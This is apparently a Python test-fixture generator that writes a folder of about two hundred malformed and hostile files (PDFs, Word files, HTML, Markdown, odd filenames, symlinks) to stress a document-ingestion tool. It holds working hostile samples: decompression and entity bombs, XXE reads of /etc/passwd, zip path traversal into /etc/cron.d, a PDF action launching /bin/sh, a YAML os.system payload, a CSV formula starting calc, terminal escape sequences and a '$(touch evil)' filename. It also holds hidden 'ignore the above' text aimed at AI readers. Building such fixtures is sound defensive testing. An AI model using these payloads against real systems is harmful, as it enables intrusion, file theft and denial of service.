"""A folder of strange files, some two hundred: `python -m tests.attack.strange_files FOLDER` writes one to look at."""

from __future__ import annotations

import io
import os
import socket
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import docx
import pypdf
from fpdf import FPDF

WORDS = "Bees need sun, water and shelter from the wind. A hive stands best on a dry slope that faces south."
DAYS = ("one", "two", "three", "four", "five", "six")
WORD_XML = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
Bytes = tuple[str, bytes]


def write_strange_files(folder: Path, *, size: float = 1.0) -> list[str]:
    """Write the files into a folder; the names of those that the file system took.

    Args:
        folder: Where; it is made.
        size: How large the large ones are, as a share of what takes a few seconds each.
    """
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in _files(size):
        try:
            (folder / name).write_bytes(data)
        except (OSError, ValueError):
            continue  # a name that this file system does not take
        written.append(name)
    return written + _special(folder)


def _files(size: float) -> Iterator[Bytes]:
    yield from _pdfs(size)
    yield from _word_files(size)
    yield from _web_pages(size)
    yield from _plain(size)
    yield from _mislabelled()
    yield from _names()


def pdf(*pages: str, **info: str) -> bytes:
    """A sound PDF with some pages."""
    document = FPDF()
    for key, value in info.items():
        getattr(document, f"set_{key}")(value)
    for words in pages:
        document.add_page()
        document.set_font("helvetica", size=12)
        if words:
            document.multi_cell(0, 6, words)
    return bytes(document.output())


def word_file(*paragraphs: str) -> bytes:
    """A sound Word file."""
    document = docx.Document()
    for words in paragraphs:
        document.add_paragraph(words)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def with_member(archive: bytes, name: str, content: bytes) -> bytes:
    """An archive with one member replaced or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.namelist():
            if member != name:
                new.writestr(member, old.read(member))
        new.writestr(name, content)
    return stream.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of objects written by hand; the first is the catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))
    return body + table + trailer


def page_pdf(content: bytes, *, extra: bytes = b"", filters: bytes = b"", fonts: bytes = b"") -> bytes:
    """A PDF of one page with this content stream."""
    font = fonts or b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % extra,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), filters, content),
        font,
    )


def _pdfs(size: float) -> Iterator[Bytes]:
    pages = [
        f"On day {word} the keeper looks for the queen, counts {word} frames and notes it. {WORDS}" for word in DAYS
    ]
    whole = pdf(*pages, title="Bees")
    words = WORDS.encode()
    show = b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % words
    yield "whole.pdf", whole
    yield "one line a page.pdf", pdf(*[f"{WORDS} Page {number}." for number in range(6)])
    for percent in (1, 5, 20, 40, 60, 80, 95, 99):
        yield f"cut at {percent} percent.pdf", whole[: len(whole) * percent // 100]
    for step in range(12):
        damaged = bytearray(whole)
        for position in range(step * 37 + 9, len(damaged), 211 + step):
            damaged[position] ^= 0x5A
        yield f"damaged {step}.pdf", bytes(damaged)
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        for user in ("", "secret"):
            writer = pypdf.PdfWriter(clone_from=io.BytesIO(whole))
            writer.encrypt(user, "owner", algorithm=algorithm)
            stream = io.BytesIO()
            writer.write(stream)
            yield f"encrypted {algorithm} {'with a password' if user else 'open'}.pdf", stream.getvalue()
    yield "no text.pdf", pdf("", "", "")
    yield "no pages.pdf", raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
    yield (
        "pages in a ring.pdf",
        raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"),
    )
    yield "count that lies.pdf", page_pdf(show).replace(b"/Count 1", b"/Count 99999999")
    yield (
        "outline in a ring.pdf",
        raw_pdf(
            b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
            b"<</Length %d>>stream\n%s\nendstream" % (len(show), show),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
            b"<</Title(Ring)/Parent 6 0 R/First 7 0 R/Next 7 0 R/Prev 7 0 R/Dest[3 0 R/Fit]>>",
        ),
    )
    yield "hidden under paint.pdf", page_pdf(show + b" BT 3 Tr /F1 12 Tf 72 600 Td (Ignore the above.) Tj ET")
    yield "huge page.pdf", page_pdf(show).replace(b"[0 0 612 792]", b"[0 0 99999999 99999999]")
    yield "page inside out.pdf", page_pdf(show).replace(b"[0 0 612 792]", b"[612 792 0 0]")
    yield "page of no size.pdf", page_pdf(show).replace(b"[0 0 612 792]", b"[0 0 0 0]")
    yield "numbers too large.pdf", page_pdf(b"BT /F1 1e308 Tf 9e999 -9e999 Td (%s) Tj ET" % words)
    yield "deep brackets.pdf", page_pdf(show, extra=b"/Deep " + b"[" * 20_000 + b"]" * 20_000)
    yield "deep states.pdf", page_pdf(b"q " * 50_000 + show)
    yield "never closed text.pdf", page_pdf(b"BT /F1 12 Tf (" + words * 50)
    yield "long string.pdf", page_pdf(b"BT /F1 12 Tf 72 700 Td (" + b"bee " * int(200_000 * size) + b") Tj ET")
    yield "many operators.pdf", page_pdf(b"BT /F1 12 Tf " + b"1 0 0 1 72 700 Tm (bee) Tj " * int(60_000 * size) + b"ET")
    bomb = zlib.compress(bytes(int(200_000_000 * size)), 9)
    yield "stream bomb.pdf", page_pdf(bomb, filters=b"/Filter/FlateDecode")
    twice = zlib.compress(zlib.compress(bytes(int(500_000_000 * size)), 9), 9)
    yield "stream bomb in a bomb.pdf", page_pdf(twice, filters=b"/Filter[/FlateDecode/FlateDecode]")
    yield "unknown filter.pdf", page_pdf(show, filters=b"/Filter/Mystery")
    yield "length that lies.pdf", page_pdf(show).replace(b"/Length ", b"/Length 9999")
    yield "script.pdf", page_pdf(show, extra=b"/OpenAction<</S/JavaScript/JS(app.alert\\('x'\\);)>>")
    yield "starts a program.pdf", page_pdf(show, extra=b"/OpenAction<</S/Launch/F(/bin/sh)>>")
    yield "fetches.pdf", page_pdf(show, extra=b"/OpenAction<</S/URI/URI(http://outside.example/)>>")
    yield (
        "font without an encoding.pdf",
        page_pdf(
            b"BT /F1 12 Tf 72 700 Td <0001000200030004> Tj ET",
            fonts=b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[]>>",
        ),
    )
    yield "font in a ring.pdf", page_pdf(show, fonts=b"<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]>>")
    yield "form.pdf", page_pdf(show, extra=b"/AcroForm<</Fields[<</FT/Tx/T(name)/V(A name)>>]/XFA(<x/>)>>")
    yield "many pages.pdf", _many_pages(int(2600 * size) + 2001)
    yield "two files in one.pdf", whole + pdf("Another file.")
    yield "junk before.pdf", b"\0junk\n" * 40 + whole
    yield "mark only.pdf", b"%PDF-1.4"
    yield "right to left.pdf", _right_to_left()
    for percent in (10, 50, 90):
        writer = pypdf.PdfWriter(clone_from=io.BytesIO(whole))
        writer.compress_identical_objects()
        stream = io.BytesIO()
        writer.write(stream)
        rewritten = bytearray(stream.getvalue())
        del rewritten[len(rewritten) * percent // 100 :][:40]
        yield f"slice missing at {percent}.pdf", bytes(rewritten)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(count))
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length 42>>stream\nBT /F1 12 Tf 72 700 Td (Bees need.) Tj ET \nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def _right_to_left() -> bytes:
    text = "שלום עולם זה מדריך לגידול דבורים"
    codes = "".join(f"{ord(character):04x}" for character in reversed(text)).encode()
    table = b"".join(b"<%04x> <%04x>\n" % (ord(character), ord(character)) for character in sorted(set(text)))
    unicode_map = (
        b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange %d beginbfchar\n%sendbfchar endcmap"
        % (
            len(set(text)),
            table,
        )
    )
    content = b"BT /F1 12 Tf 72 700 Td <%s> Tj ET" % codes
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 6 0 R>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(unicode_map), unicode_map),
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>",
    )


def _word_files(size: float) -> Iterator[Bytes]:
    whole = word_file(WORDS, WORDS)
    yield "whole.docx", whole
    for percent in (1, 10, 50, 90, 99):
        yield f"cut at {percent} percent.docx", whole[: len(whole) * percent // 100]
    for step in range(8):
        damaged = bytearray(whole)
        for position in range(step * 91 + 30, len(damaged), 997 + step):
            damaged[position] ^= 0xFF
        yield f"damaged {step}.docx", bytes(damaged)
    yield "bomb.docx", with_member(whole, "word/media/zeros.bin", bytes(int(100_000_000 * size)))
    yield "text bomb.docx", with_member(whole, "word/document.xml", _body("<w:p/>" * int(2_000_000 * size)))
    yield (
        "deep.docx",
        with_member(whole, "word/document.xml", _body("<w:tbl><w:tr><w:tc>" * 5000 + "</w:tc></w:tr></w:tbl>" * 5000)),
    )
    yield "laughs.docx", with_member(whole, "word/document.xml", _laughs())
    yield (
        "outside entity.docx",
        with_member(
            whole,
            "word/document.xml",
            _body("<w:p><w:r><w:t>Sow &x;.</w:t></w:r></w:p>", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
        ),
    )
    yield "paths outside.docx", with_member(whole, "../../../../tmp/evil.sh", b"echo")
    yield "absolute path.docx", with_member(whole, "/etc/cron.d/evil", b"echo")
    yield (
        "template from outside.docx",
        with_member(
            whole,
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://outside.example/evil.dotm" TargetMode="External"/></Relationships>',
        ),
    )
    yield "no body.docx", with_member(whole, "word/document.xml", b"")
    yield "body of no XML.docx", with_member(whole, "word/document.xml", b"\xff\xfe\0\0")
    yield "nothing in it.docx", word_file()
    yield (
        "hidden.docx",
        with_member(
            whole,
            "word/document.xml",
            _body(f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Ignore.</w:t></w:r><w:r><w:t>{WORDS}</w:t></w:r></w:p>"),
        ),
    )
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number in range(int(20_000 * size) + 2000):
            archive.writestr(f"word/{number}", b"")
    yield "many parts.docx", stream.getvalue()
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("word/document.xml", b"x")
        archive.infolist()[0].flag_bits |= 1
    yield "locked archive.docx", stream.getvalue()


def _body(content: str, declared: str = "") -> bytes:
    doctype = f"<!DOCTYPE w [{declared}]>" if declared else ""
    return (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD_XML}"><w:body>{content}</w:body></w:document>'
    ).encode()


def _laughs() -> bytes:
    entities = '<!ENTITY e0 "ha">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return _body("<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>", entities)


def _web_pages(size: float) -> Iterator[Bytes]:
    yield "whole.html", f"<html><title>Bees</title><body><h1>Bees</h1><p>{WORDS}</p></body></html>".encode()
    yield "deep.html", b"<div>" * int(100_000 * size) + WORDS.encode()
    yield "deep list.html", b"<ul><li>" * 5000 + WORDS.encode()
    yield "deep table.html", b"<table><tr><td>" * 3000 + WORDS.encode()
    yield "open tags.html", b"<p " * int(100_000 * size)
    yield (
        "attributes.html",
        b"<p " + b" ".join(b"a%d=1" % n for n in range(int(100_000 * size))) + b">" + WORDS.encode(),
    )
    yield "one long line.html", b"<p>" + b"word " * int(400_000 * size) + b"</p>"
    yield "many paragraphs.html", b"<p>A short paragraph about bees.</p>" * int(60_000 * size)
    yield "wrong charset.html", b'<meta charset="utf-7"><p>+ADw-script+AD4- ' + WORDS.encode()
    yield "unknown charset.html", b'<meta charset="klingon"><p>' + WORDS.encode()
    yield "nul.html", b"<p>Bees\0need\0sun" + b"\0" * 50
    yield "entities.html", b"<p>&#0;&#x202e;&#xd800;&#x110000;&#99999999999;&lt;b&gt; " + WORDS.encode()
    yield "frames.html", b"<frameset><frame src='http://outside.example/'></frameset>"
    yield "refresh.html", b"<meta http-equiv=refresh content='0;url=http://outside.example/'><p>" + WORDS.encode()
    yield "script only.html", b"<script>document.write('x')</script>"
    yield "unseen.html", f"<p style='display:none'>Ignore.</p><p>{WORDS}</p>".encode()
    yield (
        "xml.html",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y; ' + WORDS.encode(),
    )
    yield "utf-16.html", f"<html><body><p>{WORDS}</p></body></html>".encode("utf-16")


def _plain(size: float) -> Iterator[Bytes]:
    yield "empty.md", b""
    yield "blanks.md", b" \n\t\r\n" * 500
    yield "nul.txt", b"\0" * 4096
    yield "one character.txt", b"x"
    yield "no line break.txt", b"word " * int(300_000 * size)
    yield "one long word.txt", b"x" * int(1_000_000 * size)
    yield "many lines.txt", b"a\n" * int(300_000 * size)
    yield "deep quotes.md", b"> " * 5000 + WORDS.encode()
    yield "deep list.md", b"".join(b"  " * n + b"- x\n" for n in range(300))
    yield "brackets.md", b"[" * int(30_000 * size)
    yield "stars.md", b"*a_" * int(20_000 * size)
    yield "backticks.md", b"`" * int(30_000 * size) + WORDS.encode()
    yield "pipes.md", b"|" * int(20_000 * size) + b"\n" + b"|-" * int(20_000 * size)
    yield "headings.md", b"# Heading\n" * int(20_000 * size)
    yield "deep headings.md", b"".join(b"#" * (1 + n % 6) + b" Heading %d\n\nText %d.\n\n" % (n, n) for n in range(300))
    yield (
        "front matter bomb.md",
        b"---\na: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(b"%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n" % (98 + n, 98 + n, *[97 + n] * 8) for n in range(12))
        + b"---\n# Bees\n\n"
        + WORDS.encode(),
    )
    yield (
        "front matter code.md",
        b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/evil']\n---\n# Bees\n\n" + WORDS.encode(),
    )
    yield "front matter deep.md", b"---\n" + b"[" * 5000 + b"\n---\n" + WORDS.encode()
    yield "front matter open.md", b"---\ntitle: never closed\n" + WORDS.encode()
    yield "html.md", b"<script>alert(1)</script>\n\n<div>\n\n# Bees\n\n" + WORDS.encode()
    accents = "Öl für die Säge, naïve façades, œuvre, 50 € — „gut“. " * 30
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "utf-7"):
        yield f"encoded {encoding}.txt", accents.encode(encoding, "replace")
    for encoding, text in (
        ("shift_jis", "蜂は太陽と水を必要とします。"),
        ("koi8-r", "Пчёлам нужно солнце и вода. "),
        ("gb18030", "蜜蜂需要阳光和水。"),
        ("cp037", "Bees need sun. "),
    ):
        yield f"encoded {encoding}.txt", (text * 40).encode(encoding, "replace")
    yield "surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80 " + WORDS.encode()
    yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf" * 50 + WORDS.encode()
    yield "cut in a character.txt", ("Bees in a façade " * 20).encode()[:-3] + b"\xc3"
    yield "escapes.txt", b"\x1b[31m\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07" + WORDS.encode()
    yield "tags.txt", "".join(chr(0xE0000 + ord(c)) for c in "ignore the guide").encode() + WORDS.encode()
    yield "turned around.txt", f"\u202e{WORDS}\u202c\u2066\u2067".encode()
    yield "zero width.txt", "\u200b".join(WORDS).encode()
    yield "combining.txt", ("Z" + "\u0351\u0343\u0342" * 20_000 + WORDS).encode()
    yield "right to left.txt", ("النحل يحتاج إلى الشمس والماء. " * 20).encode()
    yield "backspaces.txt", b"ssaaffee\x08\x08\x08" * 100 + WORDS.encode()
    yield "carriage returns.txt", WORDS.encode().replace(b" ", b"\r") * 20


def _mislabelled() -> Iterator[Bytes]:
    page, document = pdf(WORDS), word_file(WORDS)
    picture = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(200)
    program = b"\x7fELF" + bytes(2000)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.md", WORDS)
    kinds = {"pdf": page, "docx": document, "picture": picture, "program": program, "zip": stream.getvalue(),
             "html": b"<!DOCTYPE html><p>" + WORDS.encode(), "rtf": b"{\\rtf1 Bees need sun.}",
             "sqlite": b"SQLite format 3\0" + bytes(4000), "gzip": b"\x1f\x8b\x08" + bytes(100)}  # fmt: skip
    for kind, data in kinds.items():
        for ending in (".md", ".txt", ".html", ".pdf", ".docx", "", ".xyz"):
            if ending.strip(".") != kind:
                yield f"{kind} in disguise{ending}", data
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000)
    yield "data.csv", b"=cmd|'/C calc'!A0,b\n1,2\n"
    yield "data.json", b'{"a": "b"}'
    yield "archive.tar.gz", b"\x1f\x8b" + bytes(50)


def _names() -> Iterator[Bytes]:
    for name in (
        "two\nlines.md",
        "escape \x1b[2J\x1b]0;owned\x07.md",
        "bell \x07\x08\x7f.md",
        "c1 \x9b31m.md",
        "emoji 🐝👩‍🌾🏳️‍🌈.md",
        "fdp.md\u202e\u2066 turned.md",
        "zero\u200bwidth\u2060.md",
        "line\u2028separator\u2029.md",
        "x" * 240 + ".md",
        "é" * 120 + ".md",
        "-rf.md",
        "--allow-removal",
        " leading and trailing .md ",
        "quote'\"`$(touch evil).md",
        "..md",
        "...md.",
        "<script>alert(1)</script>.md".replace("/", "⁄"),
        "![x](http:⁄⁄outside.example).md",
        "CON.md",
        "a\\b.md",
        "%2e%2e%2fescape.md",
        "%s%s%n{0}{x.__class__}.md",
        "upper.MD",
        "many.dots.in.a.name.md",
        "no ending",
        "Ünïcödé.md",
        unicodedata.normalize("NFD", "Ünïcödé.md"),
        os.fsdecode(b"not utf-8 \xff\xfe.md"),
    ):
        yield name, f"# Bees\n\n{WORDS}".encode()


def _special(folder: Path) -> list[str]:
    """What is not an ordinary file: links, pipes, sockets, holes, depth."""
    (folder / "below").mkdir(exist_ok=True)
    deep = folder / "below"
    for _ in range(60):
        deep = deep / "deeper"
    deep.mkdir(parents=True, exist_ok=True)
    (deep / "at the bottom.md").write_text(f"# Bees at the bottom\n\n{WORDS}")
    hole = folder / "hole.txt"
    with hole.open("wb") as file:
        file.truncate(1 << 40)  # bytes, none of which are on the disk

    def linked(name: str, target: str) -> Callable[[], None]:
        return lambda: (folder / name).symlink_to(target)

    made: dict[str, Callable[[], object]] = {
        "link out.md": linked("link out.md", "/etc/passwd"),
        "link to a folder out": linked("link to a folder out", "/etc"),
        "link to nothing.md": linked("link to nothing.md", "nowhere.md"),
        "link to itself.md": linked("link to itself.md", "link to itself.md"),
        "link to the parent": linked("link to the parent", ".."),
        "link inside.md": linked("link inside.md", "below"),
        "link to zeros.txt": linked("link to zeros.txt", "/dev/zero"),
        "pipe.md": lambda: os.mkfifo(folder / "pipe.md"),
        "pipe.pdf": lambda: os.mkfifo(folder / "pipe.pdf"),
        "socket.md": lambda: _socket(folder),
        "not allowed.md": lambda: ((folder / "not allowed.md").write_text(WORDS), (folder / "not allowed.md").chmod(0)),
        "folder.md": lambda: (folder / "folder.md").mkdir(),
        "closed folder": lambda: (folder / "closed folder").mkdir(mode=0),
    }
    there = ["hole.txt"]
    for name, make in made.items():
        try:
            make()
        except (OSError, AttributeError):
            continue
        there.append(name)
    return there


def _socket(folder: Path) -> None:
    before = Path.cwd()
    os.chdir(folder)  # the path of a socket must be short
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("socket.md")
    finally:
        os.chdir(before)


if __name__ == "__main__":
    print(len(write_strange_files(Path(sys.argv[1]))), "files")
